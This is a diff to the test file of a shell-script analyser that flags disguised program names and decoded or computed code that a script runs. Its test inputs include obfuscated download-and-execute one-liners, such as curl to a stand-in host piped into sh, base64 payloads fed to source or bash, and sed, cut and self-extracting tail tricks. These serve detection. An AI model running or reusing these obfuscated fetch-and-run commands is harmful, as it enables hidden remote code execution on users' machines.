@@ -27,9 +27,9 @@ describe('names of programs that are put together', () => {
     'x=CURL; ${x,,} https://e.example/x | sh',
     '{curl,-s,https://e.example/x} | sh',
   ]
-  it.each(scripts)('%s', (script) => expect(flows(script)).toContain(download))
+  it.each(scripts)('are read in %s', (script) => expect(flows(script)).toContain(download))
 
-  it('reports the name as hidden, and shows the command', () => {
+  it('are reported as hidden, with the command', () => {
     const { facts } = readShellProgram(scripts[0]!)
     expect(facts).toContainEqual(expect.objectContaining({ kind: 'hidden-name', value: 'curl' }))
     expect(texts(scripts[0]!)).toContain('curl https://e.example/x')
@@ -40,7 +40,7 @@ describe('names of programs that are put together', () => {
     'PY=python3; $PY x.py; "$HOME/bin/curl" x; "curl" x; \\rm x; python${V} x; ${CC:-gcc} x.c',
     'for tool in curl wget; do command -v "$tool"; "$tool" --version; done',
     '"${BASH_SOURCE[0]%/*}/curl" x; ${PREFIX}/bin/bash x',
-  ])('does not report %s', (script) => {
+  ])('are not reported in %s', (script) => {
     expect(readShellProgram(script).facts.map(({ kind }) => kind)).not.toContain('hidden-name')
   })
 })
@@ -78,18 +78,18 @@ describe('texts that a shell script computes and runs', () => {
     ['base64 for source', `source <(echo ${base64} | base64 -d)`],
     ['base64 for sh -c', `sh -c "$(base64 -d <<< ${base64})"`],
   ]
-  it.each(scripts)('%s', (_, script) => {
+  it.each(scripts)('are decoded and read from %s', (_, script) => {
     expect(texts(script).join('\n')).toContain(command)
     expect(flows(script).join('\n')).toMatch(/^decode \S.* → dynamic-run/m)
   })
-  it.each(scripts)('reads the code in it: %s', (_, script) => expect(flows(script)).toContain(download))
+  it.each(scripts)('are read as code: %s', (_, script) => expect(flows(script)).toContain(download))
 
   it.each([
     ['replaced by sed', `echo '${command.replaceAll('e', '@')}' | sed 's/@/e/g' | sh`],
     ['cut', `echo 'xxx${command}' | cut -c4- | sh`],
     ['a tail of the script', `tail -n +4 "$0" | base64 -d | bash\nexit 0\n\n${base64}`],
     ['a marker in the script', `sed '1,/^__DATA__/d' "$0" | base64 -d | sh\nexit 0\n__DATA__\n${base64}`],
-  ])('are decoded, but unknown: %s', (_, script) => {
+  ])('are found but not decoded if they are %s', (_, script) => {
     expect(flows(script).join('\n')).toMatch(/^decode \S.* → dynamic-run/m)
   })
 
@@ -106,7 +106,7 @@ describe('texts that a shell script computes and runs', () => {
     'curl -s https://e.example | python3 -c \'import sys, json; print(json.load(sys.stdin)["a"])\'',
     'v=$(curl -s https://e.example/version); sh -c "docker pull tool:$v"; ./tool-$v',
     'docker exec -i box sh < <(curl -s https://e.example/x)',
-  ])('finds no computed code in %s', (script) => {
+  ])('are not found in %s', (script) => {
     expect(readShellProgram(script).facts.map(({ kind }) => kind)).not.toContain('dynamic-run')
     expect(flows(script)).toEqual([])
   })
